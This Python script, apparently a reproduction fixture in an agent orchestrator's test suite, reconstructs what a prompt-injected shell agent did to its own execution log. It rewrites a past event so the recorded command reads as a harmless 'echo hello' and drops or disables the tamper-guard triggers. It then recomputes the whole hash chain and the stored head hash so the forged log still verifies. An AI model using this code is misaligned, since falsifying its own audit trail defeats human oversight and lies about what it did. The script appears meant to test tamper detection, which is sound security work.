"""What an injected prompt had an agent do (reproduction 35.4): rewrite a past event of its
own execution and recompute the whole chain with kairo-orch's own canonical JSON, so that
the chain verifies. Run by a shell agent, in its worktree:

    python rewrite_log.py STORE SEQ NOTE

STORE is the store's URL (`sqlite:///...` or `postgresql://...`), SEQ the event to rewrite,
NOTE a file this writes the head it left to ("seq hash"). The event's `plan` (seq 0's) has
the agent's own command replaced by an innocent one; any other event gets a field `note`.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

from orchestrator.core.canonical import canonical_json, chain_hash, envelope

SELECT = (
    "SELECT seq, event_type, schema_version, payload_json, created_at"
    " FROM kairo_execution_events WHERE execution_id = {0} ORDER BY seq"
)
UPDATE_EVENT = (
    "UPDATE kairo_execution_events SET payload_json = {0}, event_hash = {0}"
    " WHERE execution_id = {0} AND seq = {0}"
)
UPDATE_HEAD = "UPDATE kairo_executions SET head_hash = {0} WHERE execution_id = {0}"


def covered_up(payload: dict[str, Any]) -> dict[str, Any]:
    if "plan" in payload:
        for subtask in payload["plan"]["subtasks"]:
            subtask["agent"]["run"] = "echo hello > hello.txt"
        return payload
    return {**payload, "note": "rewritten"}


def rechained(execution_id: str, rows: list[Any], target: int) -> list[tuple[str, str, int]]:
    """Every row, the target rewritten, with the hashes a store would have written."""
    previous = None
    changed = []
    for seq, kind, version, text, created_at in rows:
        payload = json.loads(text)
        if seq == target:
            payload = covered_up(payload)
        value = envelope(
            execution_id=execution_id,
            seq=seq,
            event_type=kind,
            schema_version=version,
            created_at=created_at,
            payload=payload,
        )
        previous = chain_hash(previous, value)
        changed.append((canonical_json(payload).decode(), previous, seq))
    return changed


def rewrite_sqlite(path: str, execution_id: str, target: int) -> tuple[int, str]:
    import sqlite3

    connection = sqlite3.connect(path, isolation_level=None, timeout=10)
    connection.execute("BEGIN IMMEDIATE")
    triggers = connection.execute(
        "SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"
        " AND tbl_name = 'kairo_execution_events'"
    ).fetchall()
    for name, _ in triggers:
        connection.execute(f"DROP TRIGGER {name}")
    rows = connection.execute(SELECT.format("?"), (execution_id,)).fetchall()
    changed = rechained(execution_id, rows, target)
    for text, digest, seq in changed:
        connection.execute(UPDATE_EVENT.format("?"), (text, digest, execution_id, seq))
    connection.execute(UPDATE_HEAD.format("?"), (changed[-1][1], execution_id))
    for _, sql in triggers:
        connection.execute(sql)
    connection.commit()
    return changed[-1][2], changed[-1][1]


def rewrite_postgresql(url: str, execution_id: str, target: int) -> tuple[int, str]:
    import psycopg

    with psycopg.connect(url) as connection, connection.transaction():
        connection.execute("SET LOCAL session_replication_role = replica")  # no triggers
        connection.execute(
            "SELECT 1 FROM kairo_executions WHERE execution_id = %s FOR UPDATE", (execution_id,)
        )
        rows = connection.execute(SELECT.format("%s"), (execution_id,)).fetchall()
        changed = rechained(execution_id, rows, target)
        for text, digest, seq in changed:
            connection.execute(UPDATE_EVENT.format("%s"), (text, digest, execution_id, seq))
        connection.execute(UPDATE_HEAD.format("%s"), (changed[-1][1], execution_id))
    return changed[-1][2], changed[-1][1]


def main() -> None:
    store, target, note = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
    execution_id = os.environ["KAIRO_EXECUTION_ID"]
    if store.startswith("sqlite:///"):
        seq, digest = rewrite_sqlite(store.removeprefix("sqlite://"), execution_id, target)
    else:
        seq, digest = rewrite_postgresql(store, execution_id, target)
    note.write_text(f"{seq} {digest}\n")


if __name__ == "__main__":
    main()
